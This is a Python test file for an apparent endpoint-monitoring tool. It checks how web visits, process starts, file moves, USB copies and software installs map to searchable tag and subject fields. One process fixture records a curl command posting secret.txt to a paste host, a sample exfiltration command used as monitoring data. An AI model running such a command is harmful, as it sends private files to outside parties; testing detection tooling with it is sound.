"""The searchable tag/subject columns taken from every kind of event payload."""

from __future__ import annotations

import msgspec
from hypothesis import given
from hypothesis import strategies as st

from sekimori.protocol.events import EVENT_KINDS
from sekimori.protocol.events.file import FileCopiedToRemovable, FileMoved
from sekimori.protocol.events.inventory import SoftwareInstalled, SoftwareUpgraded
from sekimori.protocol.events.process import ProcessStarted
from sekimori.protocol.events.web import WebVisit
from sekimori.server.event_fields import MAX_SUBJECT, MAX_TAG, event_fields


def test_web_visits_group_by_host_and_search_by_url_and_title() -> None:
    visit = WebVisit(
        url="https://intranet.example.jp/wiki/経費",
        title="経費精算 - Wiki",
        host="intranet.example.jp",
        browser="chromium",
        profile="Default",
    )
    tag, subject = event_fields(visit)
    assert tag == "intranet.example.jp"
    assert subject is not None and "経費精算" in subject and "/wiki/" in subject


def test_processes_search_by_their_command_line() -> None:
    started = ProcessStarted(
        pid=42,
        ppid=1,
        name="curl",
        exe="/usr/bin/curl",
        argv=["curl", "-d", "@secret.txt", "https://paste.example"],
        user="alice",
        uid=1000,
        start_time_us=1,
        sha256="",
        hash_status="ok",
    )
    assert event_fields(started) == (
        "curl",
        "/usr/bin/curl curl -d @secret.txt https://paste.example",
    )


def test_file_moves_and_copies_to_removable_media() -> None:
    moved = FileMoved(src="/home/a/x.docx", dest="/home/a/.Trash/x.docx")
    assert event_fields(moved) == (".docx", "/home/a/x.docx /home/a/.Trash/x.docx")
    copied = FileCopiedToRemovable(
        path="/media/usb/plan.xlsx",
        operation="created",
        mount_point="/media/usb",
        device="/dev/sdb1",
    )
    assert event_fields(copied) == ("/dev/sdb1", "/media/usb/plan.xlsx")


def test_software_changes_group_by_name_and_search_by_version_and_manager() -> None:
    installed = SoftwareInstalled(
        manager="npm", name="@babel/core", architecture="", version="7.26.0",
        source="@babel/core", source_version="7.26.0",
    )  # fmt: skip
    assert event_fields(installed) == ("@babel/core", "@babel/core 7.26.0 npm")
    upgraded = SoftwareUpgraded(
        manager="pypi", name="requests", architecture="", from_version="2.31.0",
        to_version="2.32.3", source="requests", source_version="2.32.3",
    )  # fmt: skip
    assert event_fields(upgraded) == ("requests", "requests 2.31.0 2.32.3 pypi")


@given(st.data())
def test_every_kind_gives_bounded_fields(data: st.DataObject) -> None:
    kind = data.draw(st.sampled_from(sorted(EVENT_KINDS)))
    payload = data.draw(st.from_type(EVENT_KINDS[kind]))
    # A payload as the channel has it: one that survived validation.
    payload = msgspec.convert(msgspec.to_builtins(payload), EVENT_KINDS[kind])
    tag, subject = event_fields(payload)
    assert tag is None or 0 < len(tag) <= MAX_TAG
    assert subject is None or 0 < len(subject) <= MAX_SUBJECT


def test_kinds_without_search_fields_are_a_deliberate_few() -> None:
    """A new event kind must be given a tag/subject here or added to this list."""
    from sekimori.server.event_fields import _BY_TYPE

    assert sorted(k for k, c in EVENT_KINDS.items() if c not in _BY_TYPE) == [
        "agent.outbox_dropped",
        "agent.stopped",
        "inventory.hardware",
        "inventory.software",
        "network.connections",
        "session.boot",
        "session.resume",
        "session.shutdown",
        "session.suspend",
        "window.idle",
    ]
